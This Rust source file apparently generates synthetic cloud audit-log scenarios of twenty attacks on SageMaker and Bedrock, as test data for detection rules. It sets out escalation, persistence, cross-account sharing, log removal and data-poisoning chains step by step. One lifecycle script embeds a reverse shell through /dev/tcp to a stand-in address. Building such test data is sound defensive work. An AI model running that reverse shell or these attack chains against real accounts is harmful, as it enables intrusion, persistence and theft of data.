//! Twenty attacks over the groups of the catalogue, each within an hour or two.

use super::cast::{
    ACCOUNT, Actor, BOTO, CLI, DOMAIN, STRANGER, STUDIO, known, legacy, machine, notebook, role_arn, session,
};
use super::requests::{
    DATA, Job, MODELS, PYTORCH, SKLEARN, app, arn, base64, endpoint_config, get_object, model, object_arn,
    tuning, url,
};
use super::trail::{Attack, Call, DAY, HOUR, MINUTE, Trail, nth};
use super::{SPLIT_DAY, Scenario};
use serde_json::{Value, json};

/// Networks in which machines are rented by the hour.
const HOSTING: [&str; 8] = ["185.220", "45.155", "91.219", "167.172", "139.59", "193.142", "5.188", "94.102"];

/// A role that nobody hands to `SageMaker`.
pub(super) fn strong() -> String {
    role_arn("ml-admin")
}

/// An address that nobody of the account uses.
pub(super) fn hosting(trail: &mut Trail) -> String {
    format!("{}.{}.{}", trail.one(&HOSTING), trail.between(1, 250), trail.between(2, 250))
}

pub(super) type Scene = fn(&mut Trail, i64) -> Scenario;

/// Puts the scenes over the window of test, one after the other.
pub(super) fn spread(trail: &mut Trail, scenes: &[Scene], days: i64) -> Vec<Scenario> {
    let step = days * DAY / nth(scenes.len());
    let mut scenarios = Vec::new();
    for (number, scene) in scenes.iter().enumerate() {
        let now = SPLIT_DAY * DAY + nth(number) * step + trail.between(0, step / 2);
        scenarios.push(scene(trail, now));
    }
    scenarios
}

pub(super) fn add(trail: &mut Trail) -> Vec<Scenario> {
    let scenes: [Scene; 20] = [
        url_of_another,
        role_through_tuning,
        role_swap_and_back,
        lifecycle_chain,
        lifecycle_for_everybody,
        shell_in_training,
        copy_by_processing,
        group_shared,
        monitoring_removed,
        foreign_image,
        role_outside_aws,
        enumeration_then_role,
        bedrock_by_old_key,
        bedrock_log_removed,
        knowledge_poisoned,
        mining,
        born_approved,
        features_poisoned,
        capture_redirected,
        identity_work,
    ];
    spread(trail, &scenes, 13)
}

fn day(now: i64) -> i64 {
    now / DAY
}

/// A person's stolen session: as on that day, but from elsewhere and by script.
pub(super) fn stolen(trail: &mut Trail, name: &str, now: i64) -> Actor {
    let ip = hosting(trail);
    known(name).sso(day(now)).from(&ip).with(BOTO)
}

fn url_of_another(trail: &mut Trail, now: i64) -> Scenario {
    let who = stolen(trail, "gus", now);
    let victim = known("anna");
    let mut attack = Attack::new(trail, now, "url_of_another", "SM-A01");
    attack
        .by(&who)
        .calls(&who, &["sts:GetCallerIdentity", "sagemaker:ListDomains", "sagemaker:ListUserProfiles"]);
    let named = json!({"domainId": DOMAIN, "userProfileName": victim.profile()});
    attack.call(Call::new(&who, "sagemaker:DescribeUserProfile", named));
    attack.call(
        Call::new(&who, "sagemaker:CreatePresignedDomainUrl", url(DOMAIN, &victim.profile()))
            .gives(json!({"authorizedUrl": "***"})),
    );
    let studio = victim.studio(day(now));
    for number in 0..8 {
        let key = format!("curated/train/part-{number:05}.parquet");
        let call = Call::new(&studio, "s3:GetObject", get_object(DATA, &key));
        attack.call(call.data("AWS::S3::Object", &object_arn(DATA, &key)));
    }
    attack.end()
}

fn role_through_tuning(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("emil").sso(day(now)).with(CLI);
    let mut attack = Attack::new(trail, now, "role_through_tuning", "SM-P01 SM-P02 SM-P05 SM-D10");
    attack.by(&who).call(Call::new(&who, "iam:ListRoles", Value::Null));
    let named = json!({"roleName": "ml-admin"});
    for op in ["iam:GetRole", "iam:ListAttachedRolePolicies", "iam:ListRolePolicies"] {
        attack.call(Call::new(&who, op, named.clone()));
    }
    let name = format!("hpo-{}", attack.trail.rng.hex(6));
    let job = Job { role: strong(), output: format!("s3://{DATA}/tmp/"), ..Job::usual(&name) };
    let mut body = tuning(&name);
    body["trainingJobDefinition"] = job.definition();
    attack.wait(10 * MINUTE).call(
        Call::new(&who, "sagemaker:CreateHyperParameterTuningJob", body)
            .gives(json!({"hyperParameterTuningJobArn": arn("hyper-parameter-tuning-job", &name)})),
    );
    let inside = session("ml-admin", "SageMaker", &name).from("10.20.60.40").with(BOTO);
    attack.wait(8 * MINUTE).calls(
        &inside,
        &["sts:GetCallerIdentity", "s3:ListBuckets", "iam:ListUsers", "secretsmanager:ListSecrets"],
    );
    attack.end()
}

fn role_swap_and_back(trail: &mut Trail, now: i64) -> Scenario {
    let person = known("ivan");
    let who = person.sso(day(now)).from(&person.home_ip()).with(BOTO);
    let mut attack = Attack::new(trail, now, "role_swap_and_back", "SM-P03 SM-P04");
    let swap = |role: String| json!({"domainId": DOMAIN, "userProfileName": person.profile(), "userSettings": {"executionRole": role}});
    let answer = json!({"userProfileArn": arn("user-profile", &format!("{DOMAIN}/{}", person.profile()))});
    attack
        .by(&who)
        .call(Call::new(&who, "sagemaker:UpdateUserProfile", swap(strong())).gives(answer.clone()));
    attack.wait(4 * MINUTE).call(Call::new(
        &who,
        "sagemaker:CreatePresignedDomainUrl",
        url(DOMAIN, &person.profile()),
    ));
    let inside = session("ml-admin", "SageMaker", "ivan-swap").with(super::cast::NOTEBOOK);
    attack.call(Call::new(
        &inside,
        "sagemaker:CreateApp",
        app(DOMAIN, &format!("{}-space", person.profile())),
    ));
    attack.wait(5 * MINUTE).calls(&inside, &["iam:ListUsers", "s3:ListBuckets"]);
    attack.call(Call::new(
        &inside,
        "iam:AttachRolePolicy",
        json!({"roleName": STUDIO, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
    ));
    attack
        .wait(20 * MINUTE)
        .call(Call::new(&who, "sagemaker:UpdateUserProfile", swap(role_arn(STUDIO))).gives(answer));
    attack.end()
}

fn lifecycle_chain(trail: &mut Trail, now: i64) -> Scenario {
    let who = stolen(trail, "bela", now);
    let mut attack = Attack::new(trail, now, "lifecycle_chain", "SM-L01 SM-L03");
    let named = json!({"notebookInstanceName": "gus-nb"});
    attack.by(&who).call(Call::new(&who, "sagemaker:ListNotebookInstances", json!({"maxResults": 50})));
    attack.call(Call::new(&who, "sagemaker:DescribeNotebookInstance", named.clone()));
    let script = base64("#!/bin/bash\npython3 /home/ec2-user/SageMaker/.cache/sync.py &\n");
    let made = json!({"notebookInstanceLifecycleConfigName": "nb-sync", "onStart": [{"content": script}]});
    attack.call(Call::new(&who, "sagemaker:CreateNotebookInstanceLifecycleConfig", made).gives(
        json!({"notebookInstanceLifecycleConfigArn": arn("notebook-instance-lifecycle-config", "nb-sync")}),
    ));
    attack.call(Call::new(&who, "sagemaker:StopNotebookInstance", named.clone()));
    let update = json!({"notebookInstanceName": "gus-nb", "lifecycleConfigName": "nb-sync"});
    attack.wait(6 * MINUTE).call(Call::new(&who, "sagemaker:UpdateNotebookInstance", update));
    attack.wait(3 * MINUTE).call(Call::new(&who, "sagemaker:StartNotebookInstance", named));
    attack.end()
}

fn lifecycle_for_everybody(trail: &mut Trail, now: i64) -> Scenario {
    let who = stolen(trail, "mona", now);
    let mut attack = Attack::new(trail, now, "lifecycle_for_everybody", "SM-L02 SM-L04");
    attack.by(&who).calls(&who, &["sagemaker:ListDomains", "sagemaker:ListStudioLifecycleConfigs"]);
    let content =
        base64("#!/bin/bash\nset -eu\nnohup bash -c 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1' &\n");
    let made = json!({"studioLifecycleConfigName": "env-setup", "studioLifecycleConfigAppType": "JupyterLab", "studioLifecycleConfigContent": content});
    let config = arn("studio-lifecycle-config", "env-setup");
    attack.call(
        Call::new(&who, "sagemaker:CreateStudioLifecycleConfig", made)
            .gives(json!({"studioLifecycleConfigArn": config})),
    );
    let update = json!({"domainId": DOMAIN, "defaultUserSettings": {"jupyterLabAppSettings": {"lifecycleConfigArns": [config], "defaultResourceSpec": {"lifecycleConfigArn": config}}}});
    attack.wait(2 * MINUTE).call(Call::new(&who, "sagemaker:UpdateDomain", update));
    attack.end()
}

fn shell_in_training(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("fay").sso(day(now)).with(CLI);
    let job = format!("pricing-train-{}", trail.rng.hex(8));
    let mut attack = Attack::new(trail, now, "shell_in_training", "SM-A03 SM-A09");
    attack.by(&who).call(Call::new(
        &who,
        "sagemaker:ListTrainingJobs",
        json!({"statusEquals": "InProgress"}),
    ));
    attack.call(Call::new(&who, "sagemaker:DescribeTrainingJob", json!({"trainingJobName": job})));
    attack.call(Call::new(
        &who,
        "sagemaker:UpdateTrainingJob",
        json!({"trainingJobName": job, "remoteDebugConfig": {"enableRemoteDebug": true}}),
    ));
    let target = json!({"target": format!("sagemaker-training-job:{job}_algo-1")});
    attack
        .wait(2 * MINUTE)
        .call(Call::new(&who, "ssm:StartSession", target).gives(json!({"sessionId": "fay-5c1d"})));
    attack.end()
}

fn copy_by_processing(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("kurt").studio(day(now));
    let name = format!("export-{}", trail.rng.hex(6));
    let output = format!("s3://ds-scratch-{}/out/", trail.rng.hex(6));
    let mut attack = Attack::new(trail, now, "copy_by_processing", "SM-X01 SM-X08");
    attack.by(&who).call(Call::new(&who, "s3:ListBuckets", Value::Null));
    let job =
        Job { image: SKLEARN.into(), input: "s3://acme-claims-archive/".into(), output, ..Job::usual(&name) };
    attack.call(
        Call::new(&who, "sagemaker:CreateProcessingJob", job.processing())
            .gives(json!({"processingJobArn": arn("processing-job", &name)})),
    );
    attack.wait(20 * MINUTE).call(Call::new(
        &who,
        "sagemaker:DescribeProcessingJob",
        json!({"processingJobName": name}),
    ));
    attack.end()
}

fn group_shared(trail: &mut Trail, now: i64) -> Scenario {
    let who = stolen(trail, "hana", now);
    let mut attack = Attack::new(trail, now, "group_shared", "SM-X03");
    let named = json!({"modelPackageGroupName": "fraud"});
    attack.by(&who).call(Call::new(&who, "sagemaker:ListModelPackageGroups", Value::Null));
    attack.call(
        Call::new(&who, "sagemaker:GetModelPackageGroupPolicy", named)
            .fails("ValidationException", "Cannot find resource policy for: fraud"),
    );
    let policy = json!({"Version": "2012-10-17", "Statement": [{"Sid": "share", "Effect": "Allow", "Principal": {"AWS": format!("arn:aws:iam::{STRANGER}:root")},
        "Action": ["sagemaker:DescribeModelPackage", "sagemaker:ListModelPackages", "sagemaker:CreateModel"], "Resource": [arn("model-package-group", "fraud"), arn("model-package", "fraud/*")]}]});
    let body = json!({"modelPackageGroupName": "fraud", "resourcePolicy": policy.to_string()});
    attack.call(
        Call::new(&who, "sagemaker:PutModelPackageGroupPolicy", body)
            .gives(json!({"modelPackageGroupArn": arn("model-package-group", "fraud")})),
    );
    attack.end()
}

fn monitoring_removed(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("jana").sso(day(now)).with(BOTO);
    let bucket = format!("models-{}", trail.rng.hex(6));
    let mut attack = Attack::new(trail, now, "monitoring_removed", "SM-E01 SM-E04 SM-T02 SM-T04");
    let schedule = json!({"monitoringScheduleName": "fraud-drift"});
    attack.by(&who).call(Call::new(
        &who,
        "sagemaker:ListMonitoringSchedules",
        json!({"endpointName": "fraud-prod"}),
    ));
    attack.call(Call::new(&who, "sagemaker:StopMonitoringSchedule", schedule.clone()));
    attack.call(Call::new(&who, "sagemaker:DeleteMonitoringSchedule", schedule));
    let data = format!("s3://{bucket}/v2/model.tar.gz");
    attack.wait(9 * MINUTE).call(
        Call::new(&who, "sagemaker:CreateModel", model("fraud-v2", super::requests::FRAUD_IMAGE, &data))
            .gives(json!({"modelArn": arn("model", "fraud-v2")})),
    );
    attack.call(Call::new(
        &who,
        "sagemaker:CreateEndpointConfig",
        endpoint_config("fraud-v2", "fraud-v2", "ml.c5.xlarge", ""),
    ));
    let update = json!({"endpointName": "fraud-prod", "endpointConfigName": "fraud-v2"});
    attack.call(Call::new(&who, "sagemaker:UpdateEndpoint", update));
    attack.end()
}

fn foreign_image(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("carl").studio(day(now));
    let name = format!("carl-{}", trail.rng.hex(6));
    let mut attack = Attack::new(trail, now, "foreign_image", "SM-X02");
    let job = Job {
        image: format!("{STRANGER}.dkr.ecr.eu-west-1.amazonaws.com/pytorch-training:2.4"),
        ..Job::usual(&name)
    };
    attack.by(&who).call(
        Call::new(&who, "sagemaker:CreateTrainingJob", job.training())
            .gives(json!({"trainingJobArn": arn("training-job", &name)})),
    );
    attack.wait(5 * MINUTE).call(Call::new(
        &who,
        "sagemaker:DescribeTrainingJob",
        json!({"trainingJobName": name}),
    ));
    attack.end()
}

fn role_outside_aws(trail: &mut Trail, now: i64) -> Scenario {
    let ip = hosting(trail);
    let who = known("dana").studio(day(now)).from(&ip).with(CLI);
    let mut attack = Attack::new(trail, now, "role_outside_aws", "SM-N02 SM-D04");
    attack.by(&who).calls(
        &who,
        &["sts:GetCallerIdentity", "s3:ListBuckets", "sagemaker:ListTrainingJobs", "sagemaker:ListModels"],
    );
    for number in 0..12 {
        let key = format!("experiments/{number}/model.tar.gz");
        let call = Call::new(&who, "s3:GetObject", get_object(MODELS, &key));
        attack.call(call.data("AWS::S3::Object", &object_arn(MODELS, &key)));
    }
    attack.end()
}

fn enumeration_then_role(trail: &mut Trail, now: i64) -> Scenario {
    let who = stolen(trail, "nils", now);
    let mut attack = Attack::new(trail, now, "enumeration_then_role", "SM-D01 SM-D10 SM-P01 SM-P02 SM-A02");
    attack.by(&who).calls(
        &who,
        &[
            "sagemaker:ListNotebookInstances",
            "sagemaker:ListDomains",
            "sagemaker:ListModels",
            "sagemaker:ListEndpoints",
            "sagemaker:ListTrainingJobs",
            "sagemaker:ListPipelines",
            "iam:ListRoles",
        ],
    );
    attack.call(Call::new(&who, "iam:ListAttachedRolePolicies", json!({"roleName": "data-lake-admin"})));
    let body = json!({"notebookInstanceName": "tmp-analysis", "instanceType": "ml.t3.medium", "roleArn": role_arn("data-lake-admin"), "directInternetAccess": "Enabled", "rootAccess": "Enabled", "kmsKeyId": "", "volumeSizeInGB": 5, "tags": []});
    attack.wait(5 * MINUTE).call(
        Call::new(&who, "sagemaker:CreateNotebookInstance", body)
            .gives(json!({"notebookInstanceArn": arn("notebook-instance", "tmp-analysis")})),
    );
    attack.wait(6 * MINUTE).call(Call::new(
        &who,
        "sagemaker:CreatePresignedNotebookInstanceUrl",
        json!({"notebookInstanceName": "tmp-analysis"}),
    ));
    attack.end()
}

fn bedrock_by_old_key(trail: &mut Trail, now: i64) -> Scenario {
    let ip = hosting(trail);
    let who = legacy().from(&ip).with("aws-sdk-js/3.699.0 ua/2.1 os/linux lang/js md/nodejs#20.18.0");
    let mut attack = Attack::new(trail, now, "bedrock_by_old_key", "BR-K01 SM-D09 BR-R01 BR-I01");
    attack.by(&who).calls(
        &who,
        &[
            "sts:GetCallerIdentity",
            "bedrock:ListFoundationModels",
            "bedrock:GetFoundationModelAvailability",
            "bedrock:ListInferenceProfiles",
            "bedrock:GetModelInvocationLoggingConfiguration",
        ],
    );
    let asked = json!({"modelId": "anthropic.claude-3-opus-20240229-v1:0"});
    for region in ["us-east-1", "us-west-2", "ap-northeast-1"] {
        attack.call(
            Call::new(&who, "bedrock:InvokeModel", asked.clone())
                .in_region(region)
                .fails("ValidationException", "max_tokens_to_sample: range: -1..1,000,000"),
        );
    }
    for _ in 0..20 {
        attack.call(Call::new(&who, "bedrock:InvokeModel", asked.clone()).in_region("us-west-2"));
    }
    attack.end()
}

fn bedrock_log_removed(trail: &mut Trail, now: i64) -> Scenario {
    let ip = hosting(trail);
    let who = machine("ci", &format!("leak{now}")).from(&ip).with(CLI);
    let mut attack = Attack::new(trail, now, "bedrock_log_removed", "BR-E01 BR-A01");
    attack.by(&who).calls(
        &who,
        &[
            "sts:GetCallerIdentity",
            "bedrock:GetModelInvocationLoggingConfiguration",
            "bedrock:DeleteModelInvocationLoggingConfiguration",
            "bedrock:PutUseCaseForModelAccess",
        ],
    );
    attack.call(Call::new(
        &who,
        "bedrock:CreateFoundationModelAgreement",
        json!({"modelId": "anthropic.claude-opus-4-20250514-v1:0", "offerToken": "***"}),
    ));
    for _ in 0..10 {
        attack.call(Call::new(
            &who,
            "bedrock:Converse",
            json!({"modelId": "us.anthropic.claude-opus-4-20250514-v1:0"}),
        ));
    }
    attack.end()
}

fn knowledge_poisoned(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("anna").sso(day(now));
    let bucket = format!("handbook-mirror-{}", trail.rng.hex(4));
    let mut attack = Attack::new(trail, now, "knowledge_poisoned", "BR-T01");
    attack.by(&who).call(Call::new(&who, "bedrock:ListKnowledgeBases", Value::Null));
    attack.call(Call::new(&who, "bedrock:ListDataSources", json!({"knowledgeBaseId": "KB7QX2LMNP"})));
    let source = json!({"knowledgeBaseId": "KB7QX2LMNP", "name": "handbook-2", "dataSourceConfiguration": {"type": "S3", "s3Configuration": {"bucketArn": format!("arn:aws:s3:::{bucket}"), "bucketOwnerAccountId": STRANGER}}});
    attack.call(
        Call::new(&who, "bedrock:CreateDataSource", source)
            .gives(json!({"dataSource": {"dataSourceId": "DSEVIL0001", "knowledgeBaseId": "KB7QX2LMNP"}})),
    );
    attack.call(Call::new(
        &who,
        "bedrock:StartIngestionJob",
        json!({"knowledgeBaseId": "KB7QX2LMNP", "dataSourceId": "DSEVIL0001"}),
    ));
    attack.end()
}

fn mining(trail: &mut Trail, now: i64) -> Scenario {
    let who = stolen(trail, "lena", now);
    let region = trail.one(&["us-west-2", "ap-southeast-1", "us-east-2"]);
    let mut attack = Attack::new(trail, now, "mining", "SM-G01 SM-G02 SM-G03 SM-G05 SM-D08");
    attack.by(&who).call(
        Call::new(&who, "servicequotas:ListServiceQuotas", json!({"serviceCode": "sagemaker"}))
            .in_region(region),
    );
    let image = PYTORCH.replace("eu-west-1", region);
    for instance in ["ml.p5.48xlarge", "ml.p4d.24xlarge", "ml.p3.16xlarge", "ml.g5.48xlarge"] {
        let name = format!("bench-{}", attack.trail.rng.hex(6));
        let job = Job { instance: instance.into(), count: 8, image: image.clone(), ..Job::usual(&name) };
        let call = Call::new(&who, "sagemaker:CreateTrainingJob", job.training()).in_region(region);
        attack.call(if instance == "ml.g5.48xlarge" {
            call.gives(json!({"trainingJobArn": arn("training-job", &name).replace("eu-west-1", region)}))
        } else {
            call.fails("ResourceLimitExceeded", &format!("The account-level service limit '{instance} for training job usage' is 0 Instances, with current utilization of 0 Instances and a request delta of 8 Instances."))
        });
    }
    attack.end()
}

fn born_approved(trail: &mut Trail, now: i64) -> Scenario {
    let person = known("gus");
    let who = person.sso(day(now)).from(&person.home_ip()).with(BOTO);
    let mut attack = Attack::new(trail, now, "born_approved", "SM-R01 SM-R02 SM-R03 SM-T02");
    let body = json!({"modelPackageGroupName": "pricing", "modelApprovalStatus": "Approved", "inferenceSpecification": {"containers": [{"image": super::requests::FRAUD_IMAGE, "modelDataUrl": format!("s3://{MODELS}/experiments/gus/model.tar.gz")}], "supportedContentTypes": ["text/csv"], "supportedResponseMIMETypes": ["text/csv"]}});
    let package = arn("model-package", "pricing/31");
    attack.by(&who).call(
        Call::new(&who, "sagemaker:CreateModelPackage", body).gives(json!({"modelPackageArn": package})),
    );
    let made = json!({"modelName": "pricing-31", "containers": [{"modelPackageName": package, "environment": {}}], "executionRoleArn": role_arn("sagemaker-inference"), "vpcConfig": super::requests::vpc(), "enableNetworkIsolation": false, "tags": []});
    attack.call(Call::new(&who, "sagemaker:CreateModel", made));
    attack.call(Call::new(
        &who,
        "sagemaker:CreateEndpointConfig",
        endpoint_config("pricing-31", "pricing-31", "ml.c5.xlarge", ""),
    ));
    attack.call(Call::new(
        &who,
        "sagemaker:UpdateEndpoint",
        json!({"endpointName": "pricing-prod", "endpointConfigName": "pricing-31"}),
    ));
    attack.end()
}

fn features_poisoned(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("bela").studio(day(now));
    let mut attack = Attack::new(trail, now, "features_poisoned", "SM-T07");
    let group = json!({"featureGroupName": "fraud-cards"});
    attack.by(&who).call(Call::new(&who, "sagemaker:DescribeFeatureGroup", group.clone()));
    for number in 0..14 {
        let op = if number % 7 == 6 { "sagemaker:DeleteRecord" } else { "sagemaker:PutRecord" };
        attack.call(
            Call::new(&who, op, group.clone())
                .data("AWS::SageMaker::FeatureGroup", &arn("feature-group", "fraud-cards")),
        );
    }
    attack.end()
}

fn capture_redirected(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("hana").sso(day(now)).with(BOTO);
    let bucket = format!("acme-capture-{}", trail.rng.hex(4));
    let mut attack = Attack::new(trail, now, "capture_redirected", "SM-X05 SM-T02");
    attack.by(&who).call(Call::new(
        &who,
        "sagemaker:DescribeEndpoint",
        json!({"endpointName": "fraud-prod"}),
    ));
    attack.call(Call::new(
        &who,
        "sagemaker:DescribeEndpointConfig",
        json!({"endpointConfigName": "fraud-prod-a1b2c3"}),
    ));
    attack.call(Call::new(
        &who,
        "sagemaker:CreateEndpointConfig",
        endpoint_config("fraud-prod-c2", "fraud-prod-a1b2c3", "ml.c5.xlarge", &bucket),
    ));
    attack.call(Call::new(
        &who,
        "sagemaker:UpdateEndpoint",
        json!({"endpointName": "fraud-prod", "endpointConfigName": "fraud-prod-c2"}),
    ));
    attack.end()
}

fn identity_work(trail: &mut Trail, now: i64) -> Scenario {
    let who = notebook(day(now), "34.241.9.7");
    let mut attack = Attack::new(trail, now, "identity_work", "SM-P12 SM-P16");
    attack.by(&who).call(Call::new(&who, "iam:ListUsers", Value::Null));
    attack
        .call(Call::new(&who, "iam:CreateUser", json!({"userName": "svc-backup"})).refused("iam:CreateUser"));
    attack.call(Call::new(&who, "iam:CreateAccessKey", json!({"userName": "legacy-batch"})).gives(json!({"accessKey": {"userName": "legacy-batch", "status": "Active", "accessKeyId": "AKIAEXAMPLENEWKEY001"}})));
    let function = json!({"functionName": "sagemaker-sync", "runtime": "python3.12", "role": format!("arn:aws:iam::{ACCOUNT}:role/ml-admin"), "handler": "index.handler", "code": {}, "publish": false});
    attack.wait(HOUR / 2).call(
        Call::new(&who, "lambda:CreateFunction20150331", function)
            .gives(json!({"functionName": "sagemaker-sync"})),
    );
    attack.end()
}
